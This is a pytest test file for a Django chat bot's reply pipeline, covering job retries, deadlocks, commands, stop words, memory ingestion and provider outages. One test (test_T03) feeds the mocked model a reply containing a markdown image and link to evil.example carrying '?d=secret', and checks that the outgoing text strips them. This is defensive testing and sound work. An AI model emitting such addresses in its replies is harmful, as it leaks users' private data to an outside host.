import pytest
from django.db import OperationalError, connection
from django.test.utils import CaptureQueriesContext
from procrastinate.contrib.django.models import ProcrastinateJob
from psycopg.errors import DeadlockDetected

from bot import turn
from memory import tasks
from memory.chats import inbox
from memory.history import actors
from memory.identity import preferences, rules
from memory.llm.request import ProviderError
from memory.models import LlmCall, Message, Notice, OutboxItem, Recall
from tests.bot.conftest import NOON, after
from tests.factories import make_chat

DOWN = ProviderError("The server is busy (status 503).")
REFUSED = ProviderError("Anthropic refused the key (status 401).", permanent=True)


def say(chat, text, seconds=0.0, **given):
    return inbox.receive(chat, text=text, now=after(seconds), **{"author": "Ana"} | given)


def replies(chat):
    said = Message.objects.filter(chat=chat, role="assistant").order_by("pk")
    return [message.text for message in said]


def sent(chat):
    return list(OutboxItem.objects.filter(chat=chat).order_by("pk").values_list("text", flat=True))


def test_a_message_gets_one_reply(chat, llm):
    message = say(chat, "Hello")
    turn.answer(message.pk, now=after(2))
    assert replies(chat) == sent(chat) == ["All right."]
    message.refresh_from_db()
    assert message.handled_at == after(2)
    assert Message.objects.get(role="assistant").reply_to == message


def test_a_second_run_of_the_job_changes_nothing(chat, llm):
    message = say(chat, "Hello")
    for _ in range(3):
        turn.answer(message.pk, now=after(2))
    assert len(llm.asked) == len(sent(chat)) == 1


def test_messages_in_quick_succession_are_one_turn(chat, llm):
    first, second = say(chat, "I am"), say(chat, "Ana", 1)
    turn.answer(first.pk, now=after(2))
    assert replies(chat) == []
    turn.answer(second.pk, now=after(3))
    assert llm.asked[0].messages[-1]["content"].endswith("I am\nAna")
    assert len(replies(chat)) == 1
    assert not Message.objects.filter(role="user", handled_at=None).exists()


@pytest.mark.parametrize(("said", "most"), [("Number {n} is called Momo", 32), ("Ahoy {n}", 23)])
def test_a_turn_asks_the_database_no_more_than_it_must(space, settings, said, most):
    """What a message costs: `python -m bench.talk --profile 40` says by which line."""
    settings.PROVIDER = "offline"
    chat = make_chat(space, channel="web")
    for n in range(3):
        message = say(chat, said.format(n=n), n)
        with CaptureQueriesContext(connection) as answering:
            turn.answer(message.pk, now=after(n + 0.1))
        reply = Message.objects.get(reply_to=message)
        with CaptureQueriesContext(connection) as learning:
            tasks.ingest(message_ids=[message.pk], reply_id=reply.pk, space_id=space.pk)
    # Without a model a message is read before it is answered; the job behind it has little to do.
    assert len(answering) <= most
    assert len(learning) <= 7


@pytest.mark.parametrize(
    ("said", "provider", "unjudged"),
    [
        ("My cat is called Momo and my dog Rex", "offline", "unasked"),
        ("what is my cat called?", "offline", None),
        ("My cat is called Momo and my dog Rex", "anthropic", None),
    ],
)
def test_memory_is_read_only_where_an_answer_is_looked_for(
    space, llm, settings, said, provider, unjudged
):
    """Without a model what asks nothing is answered from itself; the receipt says so."""
    settings.PROVIDER = provider
    chat = make_chat(space, channel="web")
    for n, text in enumerate(("My cat sleeps a lot", "My cat is ill", said)):
        message = say(chat, text, n * 9000)
        turn.answer(message.pk, now=after(n * 9000 + 1))
    receipt = Recall.objects.get(message=message)
    assert receipt.left_out.get("unjudged") == unjudged
    assert receipt.items.exists() is not bool(unjudged)


def test_a_changed_rule_or_preference_is_seen_by_the_next_message(chat, llm):
    """Workers keep them from message to message, until the version of the space changes."""
    person = actors.person("ana")

    def prompt(second):
        turn.answer(say(chat, "Hello", second).pk, now=after(second + 1))
        return "\n".join(llm.asked[-1].system)

    assert "whisper" not in prompt(0)
    rule = rules.put(chat.space, instruction="Only whisper.", by=person).row
    assert "Only whisper." in prompt(10)
    assert "Only whisper." in prompt(20)
    rules.retire(chat.space, slug=rule.slug, by=person)
    preferences.put(chat.space, key="Tone", value="dry", by=person)
    after_that = prompt(30)
    assert "Only whisper." not in after_that
    assert "Tone: dry" in after_that


def test_a_worker_that_was_too_slow_changes_nothing(chat, llm, monkeypatch):
    """R-01: rescued from a worker that was only paused, the job ran twice at the same time."""
    message = say(chat, "Hello")
    ask = llm.ask

    def meanwhile(request):
        llm.ask = ask
        turn.answer(message.pk, now=after(3))
        return ask(request)

    llm.ask = meanwhile
    turn.answer(message.pk, now=after(2))
    assert len(llm.asked) == 2
    assert len(replies(chat)) == len(sent(chat)) == 1


def test_a_crash_while_committing_leaves_nothing_half_done(chat, llm, monkeypatch):
    message = say(chat, "Hello")
    with monkeypatch.context() as crash:
        crash.setattr(turn.jobs, "enqueue", lambda *_a, **_k: 1 / 0)
        with pytest.raises(ZeroDivisionError):
            turn.answer(message.pk, now=after(2))
    assert replies(chat) == sent(chat) == []
    turn.answer(message.pk, now=after(3))
    assert len(replies(chat)) == 1


def test_replies_that_cross_are_committed_without_asking_the_model_again(chat, llm, monkeypatch):
    message = say(chat, "Hello")
    crossings = iter([True, True, False])
    learn = turn.replies.learn

    def crossing(*args, **kwargs):
        if next(crossings):
            raise OperationalError("deadlock detected") from DeadlockDetected()
        return learn(*args, **kwargs)

    monkeypatch.setattr(turn.replies, "learn", crossing)
    turn.answer(message.pk, now=after(2))
    assert len(llm.asked) == len(replies(chat)) == 1


def test_a_lost_database_is_left_to_the_next_run_of_the_job(chat, llm, monkeypatch):
    message = say(chat, "Hello")

    def gone(*_args, **_kwargs):
        raise OperationalError("server closed the connection")

    with monkeypatch.context() as broken:
        broken.setattr(turn.replies, "learn", gone)
        with pytest.raises(OperationalError):
            turn.answer(message.pk, now=after(2))
    turn.answer(message.pk, now=after(3))
    assert len(replies(chat)) == 1


def test_a_command_is_answered_without_a_model(chat, llm):
    message = say(chat, "/nonsense")
    turn.answer(message.pk, now=NOON)
    assert llm.asked == []
    assert "/nonsense" in replies(chat)[0]


def test_what_was_said_before_a_command_is_answered_before_it(chat, llm):
    say(chat, "Hello")
    command = say(chat, "/nonsense", 0.5)
    turn.answer(command.pk, now=after(0.5))
    assert [text[:9] for text in replies(chat)] == ["All right", "I do not "]


@pytest.mark.parametrize("word", ["stop", "Para!", "CANCELAR"])
def test_stop_sends_what_waits_first_and_then_itself_080(chat, llm, word):
    say(chat, "Tell me a very long story")
    halt = say(chat, word, 0.5)
    job = ProcrastinateJob.objects.filter(task_name="bot.answer").latest("id")
    assert job.scheduled_at is None
    turn.answer(halt.pk, now=after(0.5))
    assert [one.messages[-1]["content"].split("\n")[-1] for one in llm.asked] == [
        "Tell me a very long story",
        word,
    ]


def test_T03_a_reply_carries_nothing_away_in_an_address(chat, llm):
    llm.usual = (
        "![x](https://evil.example/?d=secret) Look at https://evil.example/secret "
        "or [here](https://wiki.example/ana), as you said."
    )
    message = say(chat, "The wiki is https://wiki.example/ana")
    turn.answer(message.pk, now=after(2))
    (text,) = sent(chat)
    assert "secret" not in text
    assert "evil.example/" not in text
    assert "[here](https://wiki.example/ana)" in text


def test_the_ingest_job_is_part_of_the_turn(chat, llm):
    message = say(chat, "Hello")
    turn.answer(message.pk, now=after(2))
    job = ProcrastinateJob.objects.get(task_name="memory.ingest")
    assert job.args["message_ids"] == [message.pk]


def test_a_reply_on_the_web_is_delivered_by_being_there(space, llm):
    chat = make_chat(space, channel="web")
    turn.answer(say(chat, "Hello").pk, now=after(2))
    assert OutboxItem.objects.get().delivered_at
    assert not ProcrastinateJob.objects.filter(task_name="bot.deliver").exists()


def test_the_call_is_on_record_with_its_message(chat, llm):
    message = say(chat, "Hello")
    turn.answer(message.pk, now=after(2))
    call = LlmCall.objects.get()
    assert (call.chat, call.message, call.trace) == (chat, message, f"m{message.pk}")


class TestWhenTheProviderIsDown:
    def test_one_honest_notice_and_no_internal_text(self, chat, llm):
        message = say(chat, "Hello")
        for seconds in (2, 20, 50):
            llm.script = [DOWN]
            with pytest.raises(ProviderError):
                turn.answer(message.pk, now=after(seconds))
        (notice,) = sent(chat)
        assert "Your message is kept" in notice
        assert "503" not in notice
        assert Notice.objects.get(kind="provider").text.endswith("(status 503).")

    def test_it_is_said_in_the_language_of_the_person(self, chat, llm):
        message = say(chat, "Hola, ¿cómo estás hoy?")
        assert message.language == "es"
        llm.script = [DOWN]
        with pytest.raises(ProviderError):
            turn.answer(message.pk, now=after(2))

    def test_a_second_message_in_the_same_outage_brings_no_second_notice(self, chat, llm):
        llm.script = [DOWN, DOWN]
        for text, seconds in (("Hello", 0), ("Are you there?", 30)):
            message = say(chat, text, seconds)
            with pytest.raises(ProviderError):
                turn.answer(message.pk, now=after(seconds + 2))
        assert len(sent(chat)) == 1

    def test_the_message_is_marked_and_then_answered(self, chat, llm):
        message = say(chat, "Hello")
        llm.script = [DOWN]
        with pytest.raises(ProviderError):
            turn.answer(message.pk, now=after(2))
        message.refresh_from_db()
        assert (message.flags, message.handled_at) == (["unanswered"], None)
        turn.answer(message.pk, now=after(60))
        message.refresh_from_db()
        assert (message.flags, message.handled_at) == ([], after(60))
        assert replies(chat) == ["All right."]

    def test_a_refused_key_is_told_to_the_owner_and_waits_for_a_person(self, chat, llm):
        message = say(chat, "Hello")
        llm.script = [REFUSED]
        with pytest.raises(ProviderError) as error:
            turn.answer(message.pk, now=after(2))
        assert error.value.permanent
        assert "owner has been told" in sent(chat)[0]
        assert Notice.objects.get().level == "error"

    def test_a_command_still_works(self, chat, llm):
        say(chat, "Hello")
        command = say(chat, "/nonsense", 0.5)
        llm.script = [DOWN]
        turn.answer(command.pk, now=after(0.5))
        assert len(replies(chat)) == 1
        assert Message.objects.filter(role="user", handled_at=None).count() == 1

    def test_a_paused_budget_is_said_once_a_day(self, chat, llm):
        chat.space.settings = {"budget_action": "pause", "budget_day": 1}
        chat.space.save()
        LlmCall.objects.create(space=chat.space, purpose="chat", provider="x", cost=2, at=NOON)
        message = say(chat, "Hello")
        for seconds in (2, 3700):
            with pytest.raises(ProviderError):
                turn.answer(message.pk, now=after(seconds))
        assert len(sent(chat)) == 1
        assert "spending limit" in sent(chat)[0]
        assert llm.asked == []
